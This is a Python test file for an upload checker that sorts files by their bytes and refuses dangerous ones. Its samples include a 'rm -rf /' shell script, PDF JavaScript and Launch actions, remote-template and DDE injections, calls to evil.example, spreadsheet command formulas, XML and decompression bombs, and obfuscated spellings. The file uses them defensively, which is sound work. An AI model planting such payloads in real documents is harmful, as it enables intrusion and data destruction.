"""Files of strangers: a closed list by their bytes, and what is made to hurt."""

import struct
import zipfile
import zlib
from io import BytesIO

import pytest

from arasha.engines.documents import fill
from arasha.papers.letters import letter
from arasha.papers.tables import table_pdf, table_xlsx
from arasha.papers.uploads import MEDIA_TYPES, UploadRefusedError, kind_of
from tests.engines.documents.forms import FORM, values
from tests.papers.tables.workbooks import with_part

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(50) + b"\xff\xd9"
TYPES = "[Content_Types].xml"


def zipped(*members: tuple[str, bytes]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


DOCX = letter(fill(FORM, "kk", values()))
XLSX = table_xlsx(["a", "b"], [[1, 2]], title="x")
ODT = zipped(("mimetype", MEDIA_TYPES["odt"].encode()), ("content.xml", b"<x/>"))
GOOD = {
    "pdf": PDF,
    "png": PNG,
    "jpeg": JPEG,
    "tiff": b"II*\x00" + bytes(20),
    "docx": DOCX,
    "xlsx": XLSX,
    "odt": ODT,
    "txt": "Әлия айтты: ұрды.\r\n".encode(),
    "mp3": b"ID3\x03\x00" + bytes(30),
    "opus": b"OggS\x00\x02" + bytes(22) + b"OpusHead" + bytes(20),
    "wav": b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(20),
    "mp4": b"\x00\x00\x00\x18ftypisom" + bytes(20),
}


def kind(content: bytes, most_bytes: int = 10_000_000) -> str:
    return kind_of(BytesIO(content), most_bytes=most_bytes)


def refusal(content: bytes, most_bytes: int = 10_000_000) -> str:
    with pytest.raises(UploadRefusedError) as refused:
        kind(content, most_bytes)
    return refused.value.code


@pytest.mark.parametrize("expected", GOOD)
def test_what_is_on_the_list_is_known_by_its_bytes(expected: str) -> None:
    assert kind(GOOD[expected]) == expected


def test_every_kind_of_the_list_was_tried() -> None:
    assert GOOD.keys() == MEDIA_TYPES.keys()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1251"])
def test_words_in_the_encodings_of_here_are_a_text(encoding: str) -> None:
    assert kind("Заявление\n".encode(encoding)) == "txt"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b"MZ\x90\x00" + bytes(60), "executable"),
        (b"\x7fELF" + bytes(60), "executable"),
        (b"#!/bin/sh\nrm -rf /\n", "executable"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_or_locked"),
        (b"GIF89a" + bytes(60), "unknown"),
        (b"  <!DOCTYPE html><script>", "unknown"),
        (b"<svg onload=x>", "unknown"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(20), "unknown"),
        (bytes(100), "unknown"),
        (zipped(("a.txt", b"a")), "unknown"),
        (PDF[:-7], "damaged"),
        (PNG[:-4], "damaged"),
        (DOCX[:-30], "damaged"),
        (PDF.replace(b"<<>>", b"<</S /JavaScript>>"), "macros"),
        (PDF.replace(b"<<>>", b"<</S /Launch>>"), "macros"),
        (PDF.replace(b"<<>>", b"<</S /#4aava#53cript>>"), "macros"),
        (PNG + zipped(("a.class", b"x")), "two_in_one"),
        (JPEG + DOCX, "two_in_one"),
        (JPEG[:20] + PDF, "two_in_one"),
        (DOCX + b"<html>", "two_in_one"),
        (with_part(DOCX, "word/vbaProject.bin", lambda _: b"x"), "macros"),
        (with_part(DOCX, "word/embeddings/oleObject1.bin", lambda _: b"x"), "macros"),
        (
            with_part(DOCX, TYPES, lambda x: x.replace(b"document.main", b"macroEnabled.main")),
            "macros",
        ),
        (with_part(ODT, "Basic/Standard/x.xml", lambda _: b"<x/>"), "macros"),
        (with_part(DOCX, "word/a.xml", lambda _: b"<!DOCTYPE x><x/>"), "damaged"),
        (with_part(DOCX, "word/a.xml", lambda _: b"0" * 60_000_000), "bomb"),
    ],
    ids=range(27),
)
def test_what_is_dangerous_or_broken_is_refused_by_a_code(content: bytes, code: str) -> None:
    assert refusal(content, 200_000_000) == code


def test_a_template_that_would_be_fetched_is_refused() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate"'
        b' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )

    assert refusal(with_part(DOCX, "word/_rels/settings.xml.rels", lambda _: rels)) == "remote"


@pytest.mark.parametrize(
    ("name", "rels"),
    [
        (
            "word/_rels/a.xml.rels",
            "<a:Relationship {}/>".replace("<a:", "<a xmlns:a='x'><a:") + "</a>",
        ),
        ("WORD/_RELS/a.xml.RELS", "<Relationship {}/>"),
        ("word/_rels/b.xml.rels", "<?xml version='1.0' encoding='utf-16'?><Relationship {}/>"),
        ("word/_rels/c.xml.rels", "<Relationship {}\n/>".replace("{}", "{} Id='>'")),
    ],
    ids=range(4),
)
def test_neither_spelling_nor_encoding_hides_what_would_be_fetched(name: str, rels: str) -> None:
    told = rels.format(
        "TargetMode='&#69;xternal' Type='http://x/relationships/attachedTemplate' Target='http://e'"
    )
    content = told.encode("utf-16" if "utf-16" in told else "utf-8")

    assert refusal(with_part(DOCX, name, lambda _: content)) == "remote"


def test_a_document_type_behind_a_long_comment_is_found() -> None:
    part = b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"

    assert refusal(with_part(DOCX, "word/a.xml", lambda _: part)) == "damaged"


def test_a_link_in_a_letter_is_no_danger() -> None:
    rels = b'<Relationships><Relationship Type="http://x/hyperlink" Target="https://a.example" TargetMode="External"/></Relationships>'

    assert kind(with_part(DOCX, "word/_rels/footer9.xml.rels", lambda _: rels)) == "docx"


def packed_pdf(
    *objects: bytes, head: bytes = b"/Type /ObjStm /Filter /FlateDecode", lock: bytes = b""
) -> bytes:
    """As most writers make them: the objects packed in a stream."""
    content = zlib.compress(b"1 0 2 9 " + b" ".join(objects))
    stream = b"1 0 obj\n<<" + head + b"/Length %d>>\nstream\n" % len(content) + content
    return b"%PDF-1.7\n" + stream + b"\nendstream\nendobj\ntrailer <<" + lock + b">>\n%%EOF\n"


IN_A_PDF = {
    b"<</S /JavaScript /JS (app.alert(1))>>": "macros",
    b"<</S /Rendition /OP 0 /R 5 0 R>>": "macros",
    b"<</OpenAction <</JS 7 0 R>>>>": "macros",
    b"<</S /Launch /F (cmd.exe)>>": "macros",
    b"<</S /#4c#61unch /F (cmd.exe)>>": "macros",
    b"<</AcroForm <</XFA [(template) 9 0 R]>>>>": "macros",
    b"<</Type /RichMedia>>": "macros",
    b"<</S /GoToE /F (\\\\evil\\a) /D [0 /Fit]>>": "remote",
    b"<</S /GoToR /F (a.pdf)>>": "remote",
    b"<</S /SubmitForm /F (http://evil.example)>>": "remote",
    b"<</S /ImportData /F (a.fdf)>>": "remote",
    b"<</Names <</EmbeddedFiles 4 0 R>>>>": "attached",
    b"<</Type /EmbeddedFile>>": "attached",
    b"<</Subtype /FileAttachment>>": "attached",
}


@pytest.mark.parametrize("inside", IN_A_PDF)
@pytest.mark.parametrize("is_packed", [False, True])
def test_a_pdf_that_does_more_than_show_itself_is_refused(inside: bytes, is_packed: bool) -> None:
    content = packed_pdf(inside) if is_packed else PDF.replace(b"<<>>", inside)

    assert refusal(content) == IN_A_PDF[inside]


@pytest.mark.parametrize(
    ("head", "lock", "code"),
    [
        (b"/Filter /FlateDecode /X (obj) /Type /Obj#53tm", b"", "macros"),
        (b"/Filter/Fl/Type/ObjStm" + b" " * 5_000, b"", "macros"),
        (b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] /X (stream\n)", b"", "damaged"),
        (b"/Type /ObjStm /Filter /FlateDecode", b"/Encrypt 3 0 R", "old_or_locked"),
        (b"/Type /ObjStm" + b" " * 70_000, b"", "damaged"),
    ],
    ids=range(5),
)
def test_no_way_of_packing_hides_it(head: bytes, lock: bytes, code: str) -> None:
    assert refusal(packed_pdf(b"<</S /JavaScript>>", head=head, lock=lock)) == code


@pytest.mark.parametrize(
    "inside",
    [
        b"<</A <</S /URI /URI (https://a.example)>> /OpenAction [3 0 R /Fit]>>",
        b"<</S /GoTo /D [3 0 R /Fit]>>",
        b"<</Font /JavaScripter /X /JSON /Y /Launcher>>",
    ],
)
def test_links_and_names_that_only_begin_alike_are_no_danger(inside: bytes) -> None:
    assert kind(packed_pdf(inside)) == kind(PDF.replace(b"<<>>", inside)) == "pdf"


def test_a_pdf_of_our_own_and_one_with_unpacked_object_streams_are_taken() -> None:
    plain = PDF.replace(
        b"<<>>", b"<</Type /ObjStm /N 1>>\nstream\n4 0 <</Type /Catalog>>\nendstream"
    )

    assert kind(table_pdf(["a"], [["б"]], title="x", language="kk")) == kind(plain) == "pdf"


def test_a_pdf_whose_objects_unpack_to_more_than_the_memory_is_a_bomb() -> None:
    assert refusal(packed_pdf(b" " * 210_000_000)) == "bomb"


@pytest.mark.parametrize(
    "relation",
    [
        "image",
        "oleObject",
        "video",
        "audio",
        "font",
        "mailMergeSource",
        "externalLinkPath",
        "chart",
    ],
)
def test_whatever_would_be_fetched_from_outside_is_refused(relation: str) -> None:
    rels = f"<r><Relationship Type='http://x/{relation}' Target='\\\\evil\\a' TargetMode='External'/></r>"

    for office in (DOCX, XLSX):
        assert (
            refusal(with_part(office, "any/_rels/a.xml.rels", lambda _: rels.encode())) == "remote"
        )


def test_a_page_that_is_brought_into_a_letter_is_refused() -> None:
    rels = b"<r><Relationship Type='http://x/aFChunk' Target='a.html'/></r>"

    assert refusal(with_part(DOCX, "word/_rels/x.xml.rels", lambda _: rels)) == "remote"


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("<w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil\" '/>", "remote"),
        ('<w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE "x"</w:instrText>', "remote"),
        ("<w:fldChar/><w:instrText> ddeauto c:\\\\cmd.exe</w:instrText>", "remote"),
        ("<v:imagedata src='http://evil/a.png'/>", "remote"),
        ("<w:t>INCLUDEPICTURE is a word</w:t>", "docx"),
        ('<w:fldChar/><w:instrText> HYPERLINK "https://a/link " </w:instrText>', "docx"),
        ("<w:fldChar/><w:instrText> PAGE </w:instrText><v:imagedata r:id='rId1'/>", "docx"),
        ("<w:t>", "damaged"),
    ],
)
def test_a_field_that_fetches_is_refused_wherever_it_stands(part: str, code: str) -> None:
    content = with_part(DOCX, "elsewhere/a.xml", lambda _: f"<w:x>{part}</w:x>".encode())

    assert (kind(content) if code == "docx" else refusal(content)) == code


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("_xlfn.WEBSERVICE(A1)", "remote"),
        ("&#87;EBSERVICE(A1)", "remote"),
        ("_xlfn.IMAGE(A1)", "remote"),
        ("cmd|'/c calc'!A1", "remote"),
        ("SUM(A1:A2)", "xlsx"),
    ],
)
def test_a_formula_that_fetches_is_refused(formula: str, code: str) -> None:
    content = with_part(
        XLSX, "xl/worksheets/sheet9.xml", lambda _: f"<x><f>{formula}</f></x>".encode()
    )

    assert (kind(content) if code == "xlsx" else refusal(content)) == code


@pytest.mark.parametrize("part", ["xl/connections.xml", "xl/externalLinks/externalLink1.xml"])
def test_a_table_that_asks_for_data_is_refused(part: str) -> None:
    assert refusal(with_part(XLSX, part, lambda _: b"<x/>")) == "remote"


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("<draw:image xlink:href='http://evil/a.png'/>", "remote"),
        ("<draw:object xlink:href='../a.ods'/>", "remote"),
        ("<text:section-source xlink:href='//evil/a.odt'/>", "remote"),
        ("<script:event-listener xlink:href='vnd.sun.star.script:x'/>", "remote"),
        ("<office:dde-source/>", "remote"),
        ("<draw:image xlink:href='Pictures/a.png'/>", "odt"),
        ("<draw:object xlink:href='./Object 1'/>", "odt"),
        ("<text:a xlink:href='https://a.example'/>", "odt"),
    ],
)
def test_an_open_document_that_fetches_is_refused(part: str, code: str) -> None:
    content = with_part(ODT, "content.xml", lambda _: f"<x>{part}</x>".encode())

    assert (kind(content) if code == "odt" else refusal(content)) == code


def test_an_archive_that_begins_late_is_two_in_one() -> None:
    assert refusal(b"PK\x03\x04" + bytes(30) + XLSX) == "two_in_one"


def test_a_part_named_twice_is_two_in_one() -> None:
    content = with_part(DOCX, "WORD/document.xml", lambda _: b"<x/>")

    assert refusal(content) == "two_in_one"


def test_a_file_over_the_limit_is_refused_before_it_is_read() -> None:
    assert refusal(PDF, most_bytes=10) == "too_large"


def test_a_letter_with_one_spoilt_byte_is_damaged() -> None:
    with zipfile.ZipFile(BytesIO(DOCX)) as archive:
        part = archive.getinfo("word/document.xml")
    at = part.header_offset + 30 + len(part.filename) + part.compress_size // 2

    assert refusal(DOCX[:at] + bytes([DOCX[at] ^ 1]) + DOCX[at + 1 :]) == "damaged"
